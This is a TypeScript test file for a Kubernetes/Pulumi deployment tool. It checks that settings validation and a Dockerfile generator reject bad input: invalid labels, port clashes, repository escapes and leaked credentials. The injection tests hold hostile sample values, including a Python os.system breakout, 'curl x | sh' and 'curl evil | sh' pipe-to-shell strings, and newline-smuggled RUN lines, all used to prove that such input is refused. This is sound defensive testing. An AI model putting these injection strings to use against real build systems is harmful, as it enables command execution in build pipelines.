/**
 * Classes of bad input that used to be accepted silently: one test per case, each asserting
 * the message (key, bad value, fix).
 */
import { cpSync, mkdtempSync, mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import * as path from "node:path";
import { describe, expect, it } from "vitest";
import { renderDockerfile, type DockerfileSpec } from "../../model/dockerfile";
import { crossObjectProblems, dockerfileProblems, fieldProblems } from "../../model/fieldRules";
import { SettingsError } from "../../stacks/problems";
import { projectSources } from "../../stacks/projectFiles";
import { resolveSettings } from "../../stacks/settings";
import { sources, type SourceOptions } from "../support/sources";

const ROOT = path.resolve(__dirname, "..", "..");

function problemsOf(options: SourceOptions): readonly string[] {
  try {
    resolveSettings(sources(options));
  } catch (error) {
    expect(error).toBeInstanceOf(SettingsError);
    return (error as SettingsError).problems;
  }
  throw new Error("expected the settings to be rejected");
}

const PROD_HOSTS = { hostPattern: "{app}.example.com", clusterIssuer: "letsencrypt" };

const VECTORS_ONLY =
  "apps:\n  vectors:\n    path: apps/vectors\n    flavour: pip\n    kind: fastapi\n" +
  "    entrypoint: vectors.main:app\n    version: { from: file, file: VERSION }\n";

function catalogueWith(extra: string): Record<string, string> {
  return { "apps/catalogue.yaml": VECTORS_ONLY + extra };
}

describe("values valid in one grammar but used in another", () => {
  it("a version that is a tag but not a label value (trailing '-')", () => {
    expect(problemsOf({ files: { "apps/vectors/VERSION": "1.0-\n" } })).toEqual([
      "apps.vectors.version: \"1.0-\" from apps/vectors/VERSION is a valid image tag but not a valid label value (app.kubernetes.io/version): it is not a Kubernetes label value (letters, digits, '-', '_', '.'; starting and ending with a letter or digit); use a version such as 1.2.0 or 1.2.0-rc.1",
    ]);
  });

  it("a version of 100 characters", () => {
    const version = `1.${"0".repeat(98)}`;
    expect(problemsOf({ files: { "apps/vectors/VERSION": version } })).toEqual([
      `apps.vectors.version: "${version}" from apps/vectors/VERSION is a valid image tag but not a valid label value (app.kubernetes.io/version): it is 100 characters; a Kubernetes label value has at most 63; use a version such as 1.2.0 or 1.2.0-rc.1`,
    ]);
  });

  it("a version starting with '_'", () => {
    expect(problemsOf({ files: { "apps/vectors/VERSION": "_1.0" } })[0]).toMatch(
      /^apps\.vectors\.version: "_1\.0" from apps\/vectors\/VERSION is a valid image tag but not a valid label value/,
    );
  });

  it("a host pattern whose substitution has an empty label", () => {
    expect(
      problemsOf({
        config: { ingress: { hostPattern: "{app}..example.com" } },
        files: catalogueWith(""),
      }),
    ).toEqual([
      'pyfleet:ingress.hostPattern: gives app vectors the host "vectors..example.com", which is not a DNS-1123 subdomain (dot-separated lower-case labels of letters, digits and \'-\'); use a pattern such as "{app}.{env}.example.com"',
    ]);
  });

  it("a host pattern with a trailing dot", () => {
    expect(
      problemsOf({
        config: { ingress: { hostPattern: "{app}.example.com." } },
        files: catalogueWith(""),
      }),
    ).toEqual([
      'pyfleet:ingress.hostPattern: gives app vectors the host "vectors.example.com.", which ends with \'.\'; an Ingress host is written without the root dot; use a pattern such as "{app}.{env}.example.com"',
    ]);
  });

  it("a host pattern with an unknown placeholder", () => {
    expect(
      problemsOf({
        config: { ingress: { hostPattern: "{app}.{region}.example.com" } },
        files: catalogueWith(""),
      }),
    ).toEqual([
      'pyfleet:ingress.hostPattern: {region} is not a placeholder (known: {app}, {env}); app vectors would get the host "vectors.{region}.example.com"',
    ]);
  });

  it("a host pattern whose substitution makes a label longer than 63", () => {
    const long = "x".repeat(60);
    expect(
      problemsOf({
        config: { ingress: { hostPattern: `{app}-${long}.example.com` } },
        files: catalogueWith(""),
      })[0],
    ).toMatch(
      /^pyfleet:ingress\.hostPattern: gives app vectors the host .* each DNS label has at most 63/,
    );
  });

  it("the same host and path for two apps", () => {
    expect(
      problemsOf({
        config: { apps: { vectors: { ingress: { host: "dashboard.dev.localhost" } } } },
      }),
    ).toEqual([
      'apps.vectors.ingress.host: "dashboard.dev.localhost" path "/" is also routed to app dashboard (apps dashboard, vectors share it); give each app its own host',
    ]);
  });

  it("an entrypoint that does not fit the kind", () => {
    expect(problemsOf({ config: { apps: { vectors: { entrypoint: "--reload" } } } })).toEqual([
      'apps.vectors.entrypoint: "--reload" is not a fastapi entrypoint; set module:attribute such as vectors.main:app in apps/catalogue.yaml (it becomes one argument of the image\'s CMD)',
    ]);
  });

  it("minReadySeconds not below the progress deadline", () => {
    expect(
      problemsOf({ config: { rollout: { minReadySeconds: 200, progressDeadlineSeconds: 180 } } }),
    ).toEqual([
      "pyfleet:rollout.progressDeadlineSeconds: 180 must be above minReadySeconds (200), or no rollout can finish in time; raise progressDeadlineSeconds or lower minReadySeconds",
    ]);
  });
});

describe("collisions with what the program adds", () => {
  it("an app port the non-root, capability-less container cannot bind", () => {
    expect(problemsOf({ config: { apps: { vectors: { port: 443 } } } })).toEqual([
      "apps.vectors.port: 443 is below 1024, which the app cannot bind: it runs as a non-root user with every capability dropped; listen on a port such as 8000 (the Service still answers on 80)",
    ]);
  });

  it("a volume named like the built-in scratch volume", () => {
    expect(
      problemsOf({
        config: {
          apps: { vectors: { volumes: [{ name: "tmp", mountPath: "/scratch", size: "1Gi" }] } },
        },
      }),
    ).toEqual([
      'apps.vectors.volumes[0].name: "tmp" is the name of the scratch volume pyfleet mounts at /tmp; name the volume something else, e.g. data',
    ]);
  });

  it("two volumes on one mount path, written with and without a trailing slash", () => {
    expect(
      problemsOf({
        config: {
          apps: {
            vectors: {
              volumes: [
                { name: "a", mountPath: "/data", size: "1Gi" },
                { name: "b", mountPath: "/data/", size: "1Gi" },
              ],
            },
          },
        },
      }),
    ).toEqual([
      'apps.vectors.volumes[1].mountPath: /data is already the mount path of volume "a"; each volume needs its own mount path',
    ]);
  });

  it("a reserved mount path with a trailing slash", () => {
    expect(
      problemsOf({
        config: {
          apps: { vectors: { volumes: [{ name: "a", mountPath: "/tmp/", size: "1Gi" }] } },
        },
      }),
    ).toEqual([
      "apps.vectors.volumes[0].mountPath: /tmp/ is reserved (scratch space and app code); mount the volume elsewhere, e.g. /data",
    ]);
  });

  it("a metrics port equal to the Service's port", () => {
    expect(
      problemsOf({ config: { apps: { vectors: { metrics: { port: 80, path: "/metrics" } } } } }),
    ).toEqual([
      "apps.vectors.metrics.port: 80 is already the port of the app's Service (http, 80 -> 8000); serve metrics on another port, or on the app port 8000 itself",
    ]);
  });

  it("a config key that overrides an environment variable the image relies on", () => {
    expect(problemsOf({ config: { apps: { vectors: { config: { HOME: "/root" } } } } })).toEqual([
      "apps.vectors.config.HOME: overrides the image's HOME=/tmp/home, which the runtime relies on (read-only root filesystem, the Python environment); use another name",
    ]);
    expect(problemsOf({ config: { apps: { vectors: { config: { PATH: "/bin" } } } } })).toEqual([
      "apps.vectors.config.PATH: overrides the image's PATH=/opt/venv/bin:$PATH, which the runtime relies on (read-only root filesystem, the Python environment); use another name",
    ]);
  });

  it("a secret that overrides an image variable, and a name both config and secret", () => {
    const problems = problemsOf({
      config: {
        apps: { vectors: { secrets: ["VIRTUAL_ENV", "REGION"], config: { REGION: "x" } } },
        appSecrets: { vectors: { VIRTUAL_ENV: "x", REGION: "y" } },
      },
      secretKeys: ["appSecrets"],
    });
    expect(problems).toEqual([
      "apps.vectors.config.REGION: is also declared in apps.vectors.secrets; one environment variable comes from one place: remove it from config or from secrets",
      "apps.vectors.secrets: VIRTUAL_ENV overrides the image's VIRTUAL_ENV=/opt/venv, which the runtime relies on; use another name",
    ]);
  });
});

const SPEC: DockerfileSpec = {
  app: "vectors",
  flavour: "pip",
  kind: "fastapi",
  entrypoint: "vectors.main:app",
  port: 8000,
  healthPath: "/health",
  startupBudgetSeconds: 60,
  uid: 10001,
  baseImages: {
    python: "python:3.11-slim-bookworm",
    condaBuilder: "mambaorg/micromamba:1.5.10-bookworm-slim",
    condaRuntime: "debian:bookworm-slim",
  },
};

describe("inputs that reach the generated Dockerfile", () => {
  const hostilePath = '/health")+__import__("os").system("id")+("';

  it("a health path that would end the HEALTHCHECK's Python string is refused by the schema", () => {
    expect(
      problemsOf({ config: { apps: { vectors: { health: { livenessPath: hostilePath } } } } }),
    ).toEqual([
      `pyfleet:apps.vectors.health.livenessPath: expected an absolute HTTP path such as "/health" (RFC 3986 characters only: no quotes, backslashes or spaces), got ${JSON.stringify(hostilePath)} (in Pulumi.dev.yaml)`,
    ]);
  });

  it.each([
    ['/health"', "quote"],
    ["/health\\", "backslash"],
    ["/health\nRUN id", "newline"],
    ["/he alth", "space"],
  ])("the generator itself refuses the health path %j (%s)", (healthPath) => {
    expect(() => renderDockerfile({ ...SPEC, healthPath })).toThrow(
      `health path ${JSON.stringify(healthPath)} is not an HTTP path (RFC 3986 characters, no quotes or spaces)`,
    );
  });

  it.each(["--reload", 'app"]\nRUN id #', "vectors.main:app --workers 9", "os;system"])(
    "the generator refuses the entrypoint %j",
    (entrypoint) => {
      expect(() => renderDockerfile({ ...SPEC, entrypoint })).toThrow(
        `entrypoint ${JSON.stringify(entrypoint)}: a fastapi entrypoint must be module:attribute such as vectors.main:app`,
      );
    },
  );

  it("a streamlit entrypoint may not leave the app folder", () => {
    expect(() =>
      renderDockerfile({ ...SPEC, kind: "streamlit", entrypoint: "../../etc/app.py" }),
    ).toThrow(/a streamlit entrypoint must be a script inside the app folder/);
  });

  it("apt package names that would extend the RUN command are refused", () => {
    expect(
      problemsOf({
        config: { apps: { vectors: { build: { aptPackages: ["libgomp1 && curl x | sh"] } } } },
      }),
    ).toEqual([
      'pyfleet:apps.vectors.build.aptPackages[0]: expected a Debian package name, optionally =version, got "libgomp1 && curl x | sh" (in Pulumi.dev.yaml)',
    ]);
    expect(() => renderDockerfile({ ...SPEC, aptPackages: ["libgomp1;id"] })).toThrow(
      'apt package "libgomp1;id" is not a Debian package name',
    );
  });

  it("a base image that would add a line is refused", () => {
    expect(
      problemsOf({ config: { build: { baseImages: { python: "python:3.11\nRUN id" } } } })[0],
    ).toMatch(/^pyfleet:build\.baseImages\.python: expected an image with an explicit tag/);
    expect(() =>
      renderDockerfile({
        ...SPEC,
        baseImages: { ...SPEC.baseImages, python: "python:3.11 AS x\nRUN id" },
      }),
    ).toThrow('base image python "python:3.11 AS x\\nRUN id" is not an image reference');
  });

  it("pip links that would break out of a build argument are refused; values never enter the file", () => {
    expect(
      problemsOf({ config: { build: { pipFindLinks: 'http://127.0.0.1/ "--index-url=x' } } })[0],
    ).toMatch(
      /^pyfleet:build\.pipFindLinks: expected http\(s\) URLs or absolute paths separated by spaces/,
    );
    const text = renderDockerfile(SPEC);
    expect(text).toContain("ARG PIP_FIND_LINKS\n");
    expect(dockerfileProblems("vectors", text)).toEqual([]);
  });

  it("the Dockerfile check finds a line that is no instruction", () => {
    expect(dockerfileProblems("vectors", 'FROM x AS y\ncurl evil | sh\nCMD ["a"]\n')).toEqual([
      'vectors: Dockerfile line 2 starts with "curl", not an instruction; a setting broke the generated file',
    ]);
  });
});

/** A throwaway project with one pip app, for path and symlink escapes. */
function tempProject(): string {
  const root = mkdtempSync(path.join(tmpdir(), "pyfleet-escape-"));
  mkdirSync(path.join(root, "apps"), { recursive: true });
  cpSync(path.join(ROOT, "apps", "vectors"), path.join(root, "apps", "vectors"), {
    recursive: true,
  });
  writeFileSync(path.join(root, "apps", "catalogue.yaml"), VECTORS_ONLY);
  return root;
}

function projectProblems(root: string, config: Record<string, unknown> = {}): readonly string[] {
  const raw: Record<string, string> = {};
  for (const [k, v] of Object.entries(config))
    raw[k] = typeof v === "string" ? v : JSON.stringify(v);
  try {
    resolveSettings({
      stack: "dev",
      project: "pyfleet",
      config: raw,
      secretConfigKeys: new Set(),
      ...projectSources(root),
    });
  } catch (error) {
    expect(error).toBeInstanceOf(SettingsError);
    return (error as SettingsError).problems;
  }
  throw new Error("expected the settings to be rejected");
}

describe("the engine a stack builds on", () => {
  it("names a Docker engine and client config the runner exports to the providers", () => {
    const s = resolveSettings(
      sources({
        config: {
          build: { dockerHost: "unix:///run/pyfleet/docker.sock", dockerConfig: "/srv/docker" },
        },
      }),
    );
    expect(s.build).toMatchObject({
      dockerHost: "unix:///run/pyfleet/docker.sock",
      dockerConfig: "/srv/docker",
    });
  });

  it("refuses an engine address without a scheme, and a relative config folder", () => {
    expect(
      problemsOf({
        config: { build: { dockerHost: "/var/run/docker.sock", dockerConfig: "docker" } },
      }),
    ).toEqual([
      'pyfleet:build.dockerHost: expected a Docker engine address such as "unix:///var/run/docker.sock", got "/var/run/docker.sock" (in Pulumi.dev.yaml)',
      'pyfleet:build.dockerConfig: expected the absolute path of a Docker client config folder, got "docker" (in Pulumi.dev.yaml)',
    ]);
  });
});

describe("escapes from the repository", () => {
  it("an app path that leaves the repository", () => {
    const root = tempProject();
    const problems = projectProblems(root, { apps: { vectors: { path: "../outside" } } });
    expect(problems).toEqual([
      `apps.vectors.path: "../outside" leads outside the repository (${path.resolve(root, "../outside")}); an app's source folder is its build context and must stay inside the repository (in apps/catalogue.yaml)`,
    ]);
  });

  it("an app folder that is a symlink to a folder outside", () => {
    const root = tempProject();
    const outside = mkdtempSync(path.join(tmpdir(), "pyfleet-outside-"));
    symlinkSync(outside, path.join(root, "apps", "linked"));
    const problems = projectProblems(root, { apps: { vectors: { path: "apps/linked" } } });
    expect(problems[0]).toMatch(
      /^apps\.vectors\.path: "apps\/linked" leads outside the repository \(/,
    );
  });

  it("a symlink inside the app folder that points outside", () => {
    const root = tempProject();
    symlinkSync("/etc/hostname", path.join(root, "apps", "vectors", "host"));
    expect(projectProblems(root)).toEqual([
      "apps.vectors.path: apps/vectors holds symlinks that leave the repository (apps/vectors/host -> /etc/hostname); the build context must stay inside the repository: copy the files in or remove the links",
    ]);
  });

  it("a symlink inside the app folder that stays inside is fine", () => {
    const root = tempProject();
    symlinkSync("VERSION", path.join(root, "apps", "vectors", "VERSION.txt"));
    expect(() =>
      resolveSettings({
        stack: "dev",
        project: "pyfleet",
        config: {},
        secretConfigKeys: new Set(),
        ...projectSources(root),
      }),
    ).not.toThrow();
  });

  it("a version file outside the app's repository", () => {
    const root = tempProject();
    const problems = projectProblems(root, {
      apps: { vectors: { version: { from: "file", file: "../../../etc/hostname" } } },
    });
    expect(problems).toEqual([
      'apps.vectors.version.file: "../../../etc/hostname" leads outside the app\'s repository; name a file inside the app folder, e.g. VERSION',
    ]);
  });

  it("a catalogue outside the repository", () => {
    const root = tempProject();
    expect(projectProblems(root, { catalogue: "../catalogue.yaml" })).toEqual([
      `pyfleet:catalogue: "../catalogue.yaml" leads outside the repository (${path.resolve(root, "../catalogue.yaml")}); keep the catalogue in the repository, e.g. apps/catalogue.yaml`,
    ]);
  });

  it.each(["/tmp/manifests", "../manifests"])(
    "a render directory outside the repository: %s",
    (dir) => {
      const root = tempProject();
      expect(projectProblems(root, { renderDir: dir })[0]).toMatch(
        new RegExp(
          `^pyfleet:renderDir: "${dir.replace(/[./]/g, "\\$&")}" is outside the repository.*use a relative path such as rendered/dev$`,
        ),
      );
    },
  );
});

it("an absolute render directory inside the repository is fine", () => {
  const root = tempProject();
  expect(() =>
    resolveSettings({
      stack: "dev",
      project: "pyfleet",
      config: { renderDir: path.join(root, "rendered", "dev") },
      secretConfigKeys: new Set(),
      ...projectSources(root),
    }),
  ).not.toThrow();
});

describe("secrets by the side door", () => {
  it("credentials in pipFindLinks", () => {
    expect(
      problemsOf({ config: { build: { pipFindLinks: "https://user:pw@wheels.internal/" } } }),
    ).toEqual([
      'pyfleet:build.pipFindLinks: must not carry credentials (build arguments end up in the image history); put a pip.conf with the credentials in the secret pyfleet:pipConf instead, got "https://user:pw@wheels.internal/" (in Pulumi.dev.yaml)',
    ]);
  });

  it("a token in the query of pipIndexUrl", () => {
    expect(
      problemsOf({
        config: { build: { pipIndexUrl: "https://pypi.internal/simple?token=abc" } },
      })[0],
    ).toMatch(/^pyfleet:build\.pipIndexUrl: must not carry credentials/);
  });

  it("a URL with credentials in plain app config", () => {
    expect(
      problemsOf({
        config: {
          apps: { vectors: { config: { DATABASE_URL: "postgres://app:pw@db:5432/app" } } },
        },
      }),
    ).toEqual([
      "apps.vectors.config.DATABASE_URL: the URL carries credentials, and config is stored in a plain ConfigMap; declare DATABASE_URL in apps.vectors.secrets and set it with pulumi config set --secret --path 'pyfleet:appSecrets.vectors.DATABASE_URL' <url>",
    ]);
  });
});

describe("half-given settings and settings the stack never reads", () => {
  it("pipNoIndex without a wheelhouse", () => {
    expect(problemsOf({ config: { build: { pipNoIndex: true } } })).toEqual([
      "pyfleet:build.pipNoIndex: true without pyfleet:build.pipFindLinks leaves pip no source of packages, so every pip build fails; set pipFindLinks to a wheelhouse URL or remove pipNoIndex",
    ]);
  });

  it("autoscaling bounds in a stack where nothing autoscales", () => {
    expect(problemsOf({ config: { autoscaling: { maxReplicas: 5 } } })).toEqual([
      "pyfleet:autoscaling: maxReplicas set but no app of dev autoscales, so it does nothing; enable it with pyfleet:autoscaling.enabled: true (or per app), or remove the settings",
    ]);
  });

  it("a pin that a rollback of the same app overrides", () => {
    const digest = `localhost:5000/pyfleet/vectors@sha256:${"a".repeat(64)}`;
    expect(
      problemsOf({
        stack: "staging",
        config: { images: { pins: { vectors: digest }, rollback: { vectors: digest } } },
      }),
    ).toEqual([
      "pyfleet:images.pins.vectors: a rollback of vectors is set too and wins, so this pin does nothing; remove pyfleet:images.pins.vectors (or the rollback to return to the pin)",
    ]);
  });

  it("promotion gates: a soak that is no duration, gates where nothing promotes, no reason", () => {
    expect(
      problemsOf({ stack: "prod", config: { images: { soak: "30 min" }, ingress: PROD_HOSTS } }),
    ).toEqual([
      'pyfleet:images.soak: expected a duration such as "30m", "1h30m", "45s" or "2d" (or "0" for none), got "30 min" (in Pulumi.prod.yaml)',
    ]);
    expect(problemsOf({ config: { images: { soak: "30m", requireVerified: true } } })).toEqual([
      "pyfleet:images.soak: a promotion gate, which only applies when images.mode is promote; remove it or set pyfleet:images.mode to promote",
      "pyfleet:images.requireVerified: a promotion gate, which only applies when images.mode is promote; remove it or set pyfleet:images.mode to promote",
    ]);
    expect(
      problemsOf({
        stack: "staging",
        config: { images: { breakGlass: { reason: " " } } },
      }),
    ).toEqual([
      'pyfleet:images.breakGlass.reason: give the reason it will be recorded under (e.g. a ticket), got " " (in Pulumi.staging.yaml)',
    ]);
  });

  it("promotion gates as settings resolve them", () => {
    const s = resolveSettings(
      sources({
        stack: "prod",
        config: {
          ingress: PROD_HOSTS,
          images: { soak: "1h30m", requireVerified: true, breakGlass: { reason: "INC-7" } },
        },
      }),
    );
    expect(s.images.mode === "promote" && s.images.gates).toEqual({
      soakMs: 5_400_000,
      requireVerified: true,
      breakGlass: { reason: "INC-7" },
    });
  });

  it("a source stack name that no StackReference can name", () => {
    expect(
      problemsOf({ stack: "staging", config: { images: { fromStack: "dev stack" } } }),
    ).toEqual([
      "pyfleet:images.fromStack: \"dev stack\" is not a Pulumi stack name (letters, digits, '_', '.', '-'); name the stack the images come from, e.g. dev",
    ]);
  });

  it("a registry user without a password", () => {
    expect(problemsOf({ config: { registryUsername: "ci" } })).toEqual([
      "pyfleet:registryUsername: set without pyfleet:registryPassword, so the credentials would be dropped; set the password too: pulumi config set --secret pyfleet:registryPassword <token> --stack dev (or remove the user for an anonymous registry)",
    ]);
  });

  it("a registry password without a user", () => {
    expect(
      problemsOf({ config: { registryPassword: "x" }, secretKeys: ["registryPassword"] }),
    ).toEqual([
      "pyfleet:registryPassword: set without pyfleet:registryUsername, so the credentials would be dropped; set the user too: pulumi config set pyfleet:registryUsername <user> --stack dev",
    ]);
  });

  const PROD = {
    ingress: { hostPattern: "{app}.example.com", clusterIssuer: "letsencrypt" },
  };

  it("prod's build platforms (linux/arm64), which nothing builds", () => {
    expect(
      problemsOf({
        stack: "prod",
        config: { ...PROD, build: { platforms: ["linux/amd64", "linux/arm64"] } },
      }),
    ).toEqual([
      "pyfleet:build.platforms: prod never builds, so this setting in Pulumi.prod.yaml does nothing; prod deploys the digests staging runs, so set it in the stack that builds the images (the one with images.mode build, dev by default) (multi-arch images are decided where they are built)",
    ]);
  });

  it("the build block, pipConf, tags and per-app build in a promoting stack", () => {
    const problems = problemsOf({
      stack: "staging",
      config: {
        build: { push: true },
        pipConf: "[global]",
        tags: { allowDirty: true },
        apps: { vectors: { build: { uid: 20000 } } },
      },
      secretKeys: ["pipConf"],
    });
    expect(problems).toEqual([
      "pyfleet:build.push: staging never builds, so this setting in Pulumi.staging.yaml does nothing; staging deploys the digests dev runs, so set it in the stack that builds the images (the one with images.mode build, dev by default)",
      "pyfleet:pipConf: staging never builds, so the pip.conf does nothing; staging deploys the digests dev runs, so set it in the stack that builds the images (the one with images.mode build, dev by default)",
      "pyfleet:tags.allowDirty: staging never builds or tags a build; staging deploys the digests dev runs, so set it in the stack that builds the images (the one with images.mode build, dev by default)",
      "pyfleet:apps.vectors.build: staging never builds vectors; staging deploys the digests dev runs, so set it in the stack that builds the images (the one with images.mode build, dev by default) (pyfleet:apps.vectors.build there, or apps.vectors.build in apps/catalogue.yaml)",
    ]);
  });

  it("a catalogue build override for an environment that never builds", () => {
    const problems = problemsOf({
      stack: "staging",
      files: catalogueWith(
        "    environments:\n      staging:\n        build: { aptPackages: [curl] }\n",
      ),
    });
    expect(problems).toEqual([
      "apps.vectors.environments.staging.build: staging never builds vectors, so this does nothing (in apps/catalogue.yaml); staging deploys the digests dev runs, so set it in the stack that builds the images (the one with images.mode build, dev by default)",
    ]);
  });

  it("promotion settings in a stack that builds", () => {
    expect(problemsOf({ config: { images: { fromStack: "staging" } } })).toEqual([
      "pyfleet:images.fromStack: only applies when images.mode is promote, and dev builds its images; remove it from Pulumi.dev.yaml or set pyfleet:images.mode to promote",
    ]);
  });

  it("a kubeconfig both as a secret and as a file", () => {
    expect(
      problemsOf({
        config: { kubeconfig: "apiVersion: v1", kubeconfigPath: "/etc/rancher/k3s/k3s.yaml" },
        secretKeys: ["kubeconfig"],
      }),
    ).toEqual([
      "pyfleet:kubeconfigPath: dev also sets the secret pyfleet:kubeconfig, and only one kubeconfig can apply; remove one of them (pyfleet:kubeconfigPath names a file, pyfleet:kubeconfig holds the file's contents)",
    ]);
  });

  it("a render directory in a stack that deploys to a cluster", () => {
    expect(problemsOf({ config: { kubeContext: "k3s", renderDir: "out" } })).toEqual([
      "pyfleet:renderDir: dev deploys to a cluster (pyfleet:kubeconfig, pyfleet:kubeconfigPath or pyfleet:kubeContext), so manifests are never rendered there; remove renderDir, or the cluster settings to render (npm run render renders any stack without them)",
    ]);
  });
});

describe("Kubernetes field rules on the finished objects", () => {
  const deployment = (containers: unknown[], volumes: unknown[] = []) => ({
    type: "kubernetes:apps/v1:Deployment",
    name: "vectors",
    props: {
      metadata: { name: "vectors", labels: { "app.kubernetes.io/version": "1.0-" } },
      spec: { template: { spec: { containers, volumes } } },
    },
  });

  it("label values, duplicate ports, volumes and mount paths", () => {
    const problems = fieldProblems(
      deployment(
        [
          {
            name: "vectors",
            ports: [
              { name: "http", containerPort: 8000 },
              { name: "http", containerPort: 8000 },
              { name: "metrics", containerPort: 70000 },
            ],
            volumeMounts: [
              { name: "tmp", mountPath: "/tmp" },
              { name: "data", mountPath: "/tmp/" },
              { name: "gone", mountPath: "/x" },
            ],
          },
        ],
        [{ name: "tmp" }, { name: "data" }, { name: "tmp" }],
      ),
    );
    expect(problems).toEqual([
      "Deployment \"vectors\": metadata.labels[\"app.kubernetes.io/version\"] \"1.0-\" is not a Kubernetes label value (letters, digits, '-', '_', '.'; starting and ending with a letter or digit); label values come from the app name, kind, environment and version",
      'Deployment "vectors": spec.template.spec.containers[0].ports[2].containerPort 70000 is not a port number (a whole number from 1 to 65535); use a port from 1 to 65535',
      'Deployment "vectors": volume name "tmp" is used twice in the pod; every volume needs its own name',
      'Deployment "vectors": container port 8000/TCP is declared twice; use another port',
      'Deployment "vectors": container port name "http" is used twice',
      'Deployment "vectors": mount path /tmp is used by two volumes; each volume needs its own mount path',
      'Deployment "vectors": volume mount "gone" names no volume of the pod',
    ]);
  });

  it("Service ports and Ingress hosts", () => {
    expect(
      fieldProblems({
        type: "kubernetes:core/v1:Service",
        name: "vectors",
        props: {
          metadata: { name: "vectors" },
          spec: {
            ports: [
              { name: "http", port: 80 },
              { name: "metrics", port: 80 },
            ],
          },
        },
      }),
    ).toEqual([
      'Service "vectors": Service port 80/TCP is declared twice (spec.ports[1]); give each port its own number',
    ]);
    expect(
      fieldProblems({
        type: "kubernetes:networking.k8s.io/v1:Ingress",
        name: "vectors",
        props: { metadata: { name: "vectors" }, spec: { rules: [{ host: "a..b" }] } },
      }),
    ).toEqual([
      'Ingress "vectors": spec.rules[0].host "a..b" is not a DNS-1123 subdomain (dot-separated lower-case labels of letters, digits and \'-\'); check the ingress host settings',
    ]);
  });

  it("two Ingresses routing one host and path", () => {
    const ingress = (name: string) => ({
      type: "kubernetes:networking.k8s.io/v1:Ingress",
      name,
      props: {
        metadata: { name, namespace: "pyfleet-dev" },
        spec: { rules: [{ host: "a.example.com", http: { paths: [{ path: "/" }] } }] },
      },
    });
    expect(crossObjectProblems([ingress("a"), ingress("b")])).toEqual([
      'Ingress "b": a.example.com/ is also routed by Ingress "a"; give each app its own host',
    ]);
  });
});
